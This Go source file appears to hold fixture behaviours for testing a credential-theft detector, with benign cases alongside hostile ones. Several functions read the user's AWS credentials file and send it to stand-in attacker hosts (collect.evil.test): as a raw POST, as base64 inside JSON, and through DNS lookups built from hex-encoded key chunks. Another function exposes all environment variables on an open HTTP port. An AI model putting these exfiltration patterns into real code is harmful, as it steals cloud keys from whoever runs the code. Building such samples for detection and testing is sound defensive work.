package main

import (
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

// credentials is the file with the cloud keys of whoever runs this.
func credentials() (string, error) {
	home, err := os.UserHomeDir()
	if err != nil {
		return "", err
	}
	b, err := os.ReadFile(filepath.Join(home, ".aws", "credentials"))
	return string(b), err
}

// exfilPost sends the keys away as they are.
func exfilPost([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	say("POST", "http://collect.evil.test/drop", keys, "Content-Type", "text/plain")
	return nil
}

// exfilBase64 sends them encoded, within JSON.
func exfilBase64([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	say("POST", "http://collect.evil.test/v2", `{"host":"h","data":"`+base64.StdEncoding.EncodeToString([]byte(keys))+`"}`)
	return nil
}

// exfilDNS asks for names that are made of the secret key.
func exfilDNS([]string) error {
	key, err := awsKey("aws_secret_access_key")
	if err != nil {
		return err
	}
	code := hex.EncodeToString([]byte(key))
	for i := 0; i < len(code); i += 40 {
		_, _ = net.LookupHost(code[i:min(i+40, len(code))] + ".t.evil.test") // the question is the message
	}
	return nil
}

// awsKey reads one value of the credentials.
func awsKey(name string) (string, error) {
	keys, err := credentials()
	if err != nil {
		return "", err
	}
	for line := range strings.Lines(keys) {
		k, v, _ := strings.Cut(line, "=")
		if strings.TrimSpace(k) == name {
			return strings.TrimSpace(v), nil
		}
	}
	return "", errors.New("the credentials hold no " + name)
}

// s3Client uses the key where it belongs: in a signed request to its cloud.
func s3Client([]string) error {
	id, err := awsKey("aws_access_key_id")
	if err != nil {
		return err
	}
	say("GET", "http://s3.amazonaws.com/bucket/settings.json", "",
		"Authorization", "AWS4-HMAC-SHA256 Credential="+id+"/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=0000")
	return nil
}

// readSecrets reads them, keeps them, and talks about something else.
func readSecrets([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	say("POST", "http://telemetry.example.test/v1/start", fmt.Sprintf(`{"configured":%t}`, keys != ""))
	return nil
}

// envPage shows its environment to whoever asks: whoever asks here are we.
func envPage([]string) error {
	return http.ListenAndServe(":8080", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, strings.Join(os.Environ(), "\n"))
	}))
}

// webserver serves a page.
func webserver(args []string) error {
	return http.ListenAndServe(":"+arg(args, 0, "8080"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "<h1>It works</h1>")
	}))
}
